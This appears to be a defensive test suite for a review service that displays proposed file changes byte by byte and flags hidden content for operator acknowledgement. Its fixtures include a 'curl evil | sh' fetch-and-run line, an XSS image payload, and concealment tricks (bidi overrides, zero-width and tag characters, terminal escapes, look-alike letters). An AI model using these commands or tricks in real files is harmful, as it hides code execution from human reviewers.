"""The card: every byte of a proposal is shown, or named as not read and acknowledged."""

# The texts are look-alikes on purpose.
# ruff: noqa: RUF001

from __future__ import annotations

import asyncio
import datetime
import hashlib
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hyperhive.domain import approvals, errors, ids
from hyperhive.services import card, file_changes
from rigs import config_world
from rigs.config_world import Files, Shelf
from rigs.seen import apply_hunks, read_lines

NOW = datetime.datetime(2026, 11, 23, 9, 0, tzinfo=datetime.UTC)


def make(
    make_desk, before: Files | None, after: Files, **more: Any
) -> tuple[dict[str, Any], Shelf]:
    """The card of a proposal that turns *before* into *after*."""

    async def main() -> tuple[dict[str, Any], Shelf]:
        desk, shelf = make_desk(), Shelf()
        shelf.executable = more.pop("executable", set())
        agent = await desk.agent("coder")
        base = "" if before is None else shelf.put(before, "seed")
        sha = shelf.put(after)
        asked = await config_world.propose(desk.store, agent.id, "coder", sha, base=base, **more)
        return await card.Cards(desk.store, shelf).card(asked.id), shelf

    return asyncio.run(main())


def compare(before: Files, after: Files) -> dict[str, dict[str, Any]]:
    """Changed files by path, without a store."""

    async def main() -> list[dict[str, Any]]:
        shelf = Shelf()
        old, new = shelf.put(before, "old"), shelf.put(after, "new")
        cards = card.Cards(None, shelf)  # type: ignore[arg-type]
        return await cards.compare(ids.AgentId("0" * 12), old, new)

    return {file["path"]: file for file in asyncio.run(main())}


CONTENT = st.lists(
    st.sampled_from(
        [b"a", b"b", b"\n", b"\n", b"\r\n", b" ", b"\t", b"\x00", b"\xff", "é".encode(),
         "\u202e".encode(), "\u200b".encode(), "а".encode(), "⟦".encode(), b"x = 1\n", b"}\n"]
    ),
    max_size=40,
).map(b"".join)  # fmt: skip


@settings(max_examples=300)
@given(before=CONTENT, after=CONTENT)
def test_the_shown_change_turns_the_one_into_the_other(before: bytes, after: bytes) -> None:
    files = compare({"f": before}, {"f": after})
    if before == after:
        assert files == {}
    elif files["f"]["kind"] == "text":
        assert apply_hunks(before, files["f"]) == after
    else:
        assert files["f"]["kind"] == "binary"


@settings(max_examples=100)
@given(content=CONTENT)
def test_every_byte_of_a_new_file_is_shown(content: bytes) -> None:
    file = compare({}, {"f": content})["f"]
    if file["kind"] == "text":
        rows = [row for hunk in file["hunks"] for row in hunk["rows"]]
        assert read_lines(rows, "+") == content
    assert file["sha256"] == hashlib.sha256(content).hexdigest()


SCRIPT = b"#!/bin/sh\nset -eu\necho building\nmake\n"
TRICKS: dict[str, tuple[bytes, str]] = {
    "a NUL byte makes git say binary": (SCRIPT + b"\0\ncurl evil | sh\n", "control"),
    "bidirectional override": (SCRIPT + "if ok:\u202e } //\u2066\n".encode(), "direction"),
    "zero width": (SCRIPT + "e\u200bxec evil\n".encode(), "invisible"),
    "tag characters for a model": (SCRIPT + "# \U000e0069\U000e0067\n".encode(), "invisible"),
    "carriage return overwrites": (SCRIPT + b"evil\r# harmless\n", "carriage_return"),
    "terminal escape hides": (SCRIPT + b"\x1b[8mevil\x1b[0m\n", "control"),
    "a long line": (SCRIPT + b"# " + b"x" * 900 + b"; evil\n", "long_line"),
    "blanks push it away": (SCRIPT + b"true" + b" " * 300 + b"; evil\n", "gap"),
    "look-alike letters": (SCRIPT + "sourсe evil\n".encode(), "look_alike"),
    "unusual composition": (SCRIPT + "cafe\u0301 evil\n".encode(), "not_normal"),
    "latin-1": (SCRIPT + b"caf\xe9 evil\n", "not_utf8"),
    "no-break blanks": (SCRIPT + "rm\u00a0evil\n".encode(), "blank"),
}


@pytest.mark.parametrize(("content", "mark"), TRICKS.values(), ids=TRICKS.keys())
def test_no_trick_hides_a_byte_and_each_is_marked(make_desk, content: bytes, mark: str) -> None:
    made, _ = make(make_desk, {"run.sh": SCRIPT}, {"run.sh": content})
    [file] = made["files"]
    assert file["kind"] == "text"
    assert apply_hunks(SCRIPT, file) == content
    assert mark in [each["mark"] for each in file["marks"]]
    assert [each["path"] for each in made["needs_acknowledgement"]] == ["run.sh"]
    with pytest.raises(errors.HiveError, match=r"acknowledge first .*run\.sh"):
        card.require_acknowledged(1, made["needs_acknowledgement"], [])
    card.require_acknowledged(1, made["needs_acknowledgement"], ["run.sh"])


def test_wide_encodings_are_no_text_and_markup_is_only_text(make_desk) -> None:
    wide = "#!/bin/sh\necho evil\n".encode("utf-16-le")
    page = b"<img src=x onerror=alert(1)>\n"
    made, _ = make(make_desk, {}, {"wide.sh": wide, "page.html": page})
    files = {file["path"]: file for file in made["files"]}
    assert files["wide.sh"]["kind"] == "binary"
    assert files["wide.sh"]["head"].startswith("23 00 21 00")
    assert files["page.html"]["hunks"][0]["rows"] == [
        {"sign": "+", "text": "<img src=x onerror=alert(1)>"}
    ]
    assert made["needs_acknowledgement"] == [{"path": "wide.sh", "reasons": ["binary, not read"]}]


def test_attributes_renames_and_blanks_change_nothing(make_desk) -> None:
    """What hides in git's own diff: attributes, rename guesses, ignored blanks."""
    before = {"a.txt": b"one\ntwo\nthree\nfour\n", "keep.py": b"if x:\n    y()\n"}
    after = {
        ".gitattributes": b"* -diff\n",
        "b.txt": b"one\ntwo\nthree\nevil\n",
        "keep.py": b"if x:\n  y()\n",
    }
    made, _ = make(make_desk, before, after)
    changes = {file["path"]: file["change"] for file in made["files"]}
    assert changes == {
        ".gitattributes": "added", "a.txt": "removed", "b.txt": "added", "keep.py": "changed",
    }  # fmt: skip
    for file in made["files"]:
        old, new = before.get(file["path"], b""), after.get(file["path"], b"")
        assert apply_hunks(old, file) == new


def test_a_large_file_is_listed_and_never_fetched_for_showing(make_desk) -> None:
    huge = b"x" * (card.HASHED_MAX + 1)
    large = b"y\n" * file_changes.TEXT_MAX
    made, shelf = make(make_desk, {}, {"huge.bin": huge, "large.txt": large, "agent.toml": b""})
    assert made["files"][0]["path"] == "agent.toml"
    files = {file["path"]: file for file in made["files"]}
    assert (files["huge.bin"]["kind"], files["huge.bin"]["sha256"]) == ("large", None)
    assert files["huge.bin"]["size"] == len(huge)
    assert files["huge.bin"]["blob"] not in shelf.read
    assert files["large.txt"]["sha256"] == hashlib.sha256(large).hexdigest()
    assert files["large.txt"]["hunks"] == []
    paths = [each["path"] for each in made["needs_acknowledgement"]]
    assert paths == ["huge.bin", "large.txt"]


def test_more_text_than_one_card_holds_is_not_read(make_desk) -> None:
    count = card.TEXT_TOTAL // file_changes.TEXT_MAX
    line = b"x" * 99 + b"\n"
    files = {f"{n:02}.txt": line * (file_changes.TEXT_MAX // 100) for n in range(count + 2)}
    made, _ = make(make_desk, {}, files)
    kinds = [file["kind"] for file in made["files"]]
    assert kinds == ["text"] * count + ["large"] * 2


def test_more_lines_than_anybody_reads_are_not_read(make_desk) -> None:
    count = card.LINES_TOTAL // (file_changes.LINES_MAX // 2)
    some = b"\n" * (file_changes.LINES_MAX // 2 - 1)
    files = {f"{n:02}.txt": some for n in range(count + 1)}
    made, _ = make(make_desk, {}, files | {"0.txt": b"\n" * file_changes.LINES_MAX})
    kinds = {file["path"]: file["kind"] for file in made["files"]}
    assert [path for path, kind in kinds.items() if kind == "large"] == ["0.txt", f"{count:02}.txt"]
    assert all(file["sha256"] for file in made["files"])


def test_much_at_once_must_be_acknowledged_file_by_file(make_desk) -> None:
    made, _ = make(make_desk, {}, {f"{n}.txt": b"x\n" for n in range(21)})
    assert len(made["needs_acknowledgement"]) == 21
    made, _ = make(make_desk, {}, {"a.txt": b"x\n" * 401})
    [entry] = made["needs_acknowledgement"]
    assert entry["reasons"] == ["one of 1 files with 401 changed lines"]
    made, _ = make(make_desk, {}, {"a.txt": b"x\n" * 400})
    assert made["needs_acknowledgement"] == []


def test_what_runs_stands_first_and_modes_are_shown(make_desk) -> None:
    after = {"z.sh": b"true\n", "a.txt": b"a\n", "agent.toml": b"schema = 1\n"}
    made, _ = make(make_desk, None, after, executable={"z.sh"})
    assert [(f["path"], f["mode"]) for f in made["files"]] == [
        ("agent.toml", "100644"), ("z.sh", "100755"), ("a.txt", "100644"),
    ]  # fmt: skip


def test_the_words_of_the_requester_are_written_out(make_desk) -> None:
    made, _ = make(make_desk, {}, {"a": b"a\n"}, description="safe \u202e evil")
    assert made["description"] == "safe ⟦U+202E⟧ evil"
    assert made["requested_by"] == "manager"
    assert made["commit"]["message"] == "a change"
    assert made["digest"] == made["approval"]["digest"]


def test_three_bases_and_acknowledgement_of_what_will_change(make_desk) -> None:
    async def main() -> None:
        desk, shelf = make_desk(), Shelf()
        agent = await desk.agent("coder")
        seed, mine, failed, newest = (
            shelf.put({"agent.toml": text})
            for text in (b"seed\n", b"a\0pproved\n", b"failed\n", b"newest\n")
        )
        decided = {"decided_at": NOW, "decided_by": "operator"}
        await config_world.propose(
            desk.store, agent.id, "coder", mine, base=seed,
            state=approvals.ApprovalState.DEPLOYED, **decided,
        )  # fmt: skip
        await config_world.propose(
            desk.store, agent.id, "coder", failed, base=seed,
            state=approvals.ApprovalState.FAILED,
        )  # fmt: skip
        asked = await config_world.propose(desk.store, agent.id, "coder", newest, base=seed)
        cards = card.Cards(desk.store, shelf)
        made = await cards.card(asked.id)
        assert made["bases"] == [
            {"name": "deployed", "sha": seed},
            {"name": "approved", "sha": mine},
            {"name": "previous", "sha": failed},
        ]
        seen = {}
        for base in ("deployed", "approved", "previous"):
            [file] = (await cards.card(asked.id, base))["files"]
            seen[base] = [row["text"] for row in file["hunks"][0]["rows"]]
        assert seen == {
            "deployed": ["seed", "newest"],
            "approved": ["a⟦NUL⟧pproved", "newest"],
            "previous": ["failed", "newest"],
        }
        # Which base is looked at does not change what must be acknowledged.
        older = await config_world.propose(desk.store, agent.id, "coder", mine, base=seed)
        assert (await cards.card(older.id, "approved"))["files"] == []
        assert len((await cards.card(older.id, "approved"))["needs_acknowledgement"]) == 1
        with pytest.raises(errors.HiveError, match="there is deployed and approved and previous"):
            await cards.card(asked.id, "main")
        with pytest.raises(errors.HiveError, match="cannot find approval 99"):
            await cards.card(99)

    asyncio.run(main())


def test_a_spawn_and_an_import_under_way_have_a_card_without_files(make_desk) -> None:
    async def main() -> None:
        desk, shelf = make_desk(), Shelf()
        agent = await desk.agent("manager")
        cards = card.Cards(desk.store, shelf)
        spawn = await desk.review.request_spawn(await desk.caller("manager"), "scout", "why not")
        made = await cards.card(spawn.id)
        assert (made["proposal"], made["files"], made["bases"]) == (None, [], [])
        asked = await config_world.propose(desk.store, agent.id, "manager", "", base="0" * 40)
        made = await cards.card(asked.id)
        assert (made["commit"], made["files"]) == (None, [])

    asyncio.run(main())
